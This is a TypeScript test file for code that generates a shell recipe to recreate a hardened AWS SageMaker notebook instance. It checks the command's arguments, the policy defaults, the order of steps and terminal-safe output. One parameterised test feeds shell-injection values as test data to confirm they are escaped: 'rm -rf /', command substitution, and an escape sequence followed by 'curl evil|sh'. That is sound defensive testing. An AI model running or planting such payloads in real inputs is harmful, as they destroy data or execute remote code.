import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import type { Json } from '../../../shared/core/json.ts';
import { recreateRecipe } from '../../../shared/resources/aws/sagemaker-notebook-recipe.ts';
import type { NotebookState } from '../../../shared/resources/aws/sagemaker-notebook-state.ts';
import { contextOfNotebook, notebookStateOf } from '../../support/notebooks.ts';

function recipe(fields: Partial<NotebookState>, parameters: Record<string, Json> = {}): string {
  const state = notebookStateOf(fields);
  return recreateRecipe(state, contextOfNotebook(state, parameters));
}

/** What a shell makes of the command that creates: its arguments, by option. */
function argumentsOf(text: string): Record<string, string[]> {
  const start = text.indexOf('aws sagemaker create-notebook-instance');
  const [command = ''] = text.slice(start).split(/\n {3}Add its/);
  const script = `aws() { printf '%s\\0' "$@"; }\n${command}`;
  const words = execFileSync('/bin/sh', ['-c', script], { encoding: 'utf8' }).split('\0');
  const options: Record<string, string[]> = {};
  let current: string[] = [];
  for (const word of words.slice(0, -1)) {
    if (word.startsWith('--')) {
      current = [];
      options[word] = current;
    } else {
      current.push(word);
    }
  }
  return options;
}

describe('recreateRecipe', () => {
  it('keeps what is right and rights the rest', () => {
    const tags = { team: "o'brien", 'cordon-status': 'stopped', 'aws:created': 'x' };

    const options = argumentsOf(recipe({ tags, rootAccess: 'Enabled', imdsMinimum: '1' }));

    expect(options).toEqual({
      '--region': ['eu-west-1'],
      '--notebook-instance-name': ['Churn-new'],
      '--instance-type': ['ml.t3.medium'],
      '--role-arn': ['arn:aws:iam::111122223333:role/notebook'],
      '--volume-size-in-gb': ['20'],
      '--lifecycle-config-name': ['setup'],
      '--platform-identifier': ['notebook-al2023-v1'],
      '--subnet-id': ['subnet-1'],
      '--security-group-ids': ['sg-1'],
      '--direct-internet-access': ['Disabled'],
      '--kms-key-id': ['arn:aws:kms:eu-west-1:111122223333:key/1'],
      '--root-access': ['Disabled'],
      '--instance-metadata-service-configuration': ['MinimumInstanceMetadataServiceVersion=2'],
      '--tags': ['[{"Key":"team","Value":"o\'brien"}]'],
    });
  });

  it('takes subnet, groups and key from the policy where the notebook has none', () => {
    const options = argumentsOf(
      recipe(
        { subnetId: null, securityGroups: [], kmsKeyId: null },
        { subnetId: 'subnet-9', securityGroupIds: ['sg-8', 'sg-9'], kmsKeyId: 'alias/ml' },
      ),
    );

    expect(options).toMatchObject({
      '--subnet-id': ['subnet-9'],
      '--security-group-ids': ['sg-8', 'sg-9'],
      '--kms-key-id': ['alias/ml'],
    });
  });

  it('leaves words to fill in where nobody says', () => {
    const options = argumentsOf(
      recipe({
        subnetId: null,
        securityGroups: [],
        kmsKeyId: null,
        lifecycleConfig: null,
        tags: {},
      }),
    );

    expect(options).toMatchObject({
      '--subnet-id': ['SUBNET_ID'],
      '--security-group-ids': ['SECURITY_GROUP_ID'],
      '--kms-key-id': ['KMS_KEY_ARN'],
    });
    expect(options).not.toHaveProperty('--lifecycle-config-name');
    expect(options).not.toHaveProperty('--tags');
  });

  it('does not carry over a key that AWS manages', () => {
    const options = argumentsOf(recipe({ kmsKeyId: 'alias/aws/sagemaker', keys: {} }));

    expect(options['--kms-key-id']).toEqual(['KMS_KEY_ARN']);
  });

  it('says to move the data first, and to delete last', () => {
    const text = recipe({});

    const places = ['s3 sync', 'create-notebook-instance', 'delete-notebook-instance'].map((word) =>
      text.indexOf(word),
    );

    expect(places).toEqual([...places].sort((a, b) => a - b));
    expect(places).not.toContain(-1);
  });

  it.each([
    '$(touch /tmp/x)',
    "'; rm -rf / #",
    '`id`',
    'a\nrm -rf /',
    '\u001b[201~\rcurl evil|sh',
    '\\',
    '"',
  ])('passes %j on as text', (hostile) => {
    const printable = hostile.replace(/\p{Cc}/gu, '');

    const options = argumentsOf(recipe({ subnetId: hostile, tags: { note: hostile } }));

    expect(options['--tags']).toEqual([JSON.stringify([{ Key: 'note', Value: hostile }])]);
    expect(options['--subnet-id']).toEqual([printable]);
  });

  it('holds no character that a terminal would act on', () => {
    const text = recipe({ name: 'a\u001b[201~b\u202e', lifecycleConfig: 'x\ny' });

    expect(text.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    expect(text.split('\n').length).toBe(recipe({}).split('\n').length);
  });
});
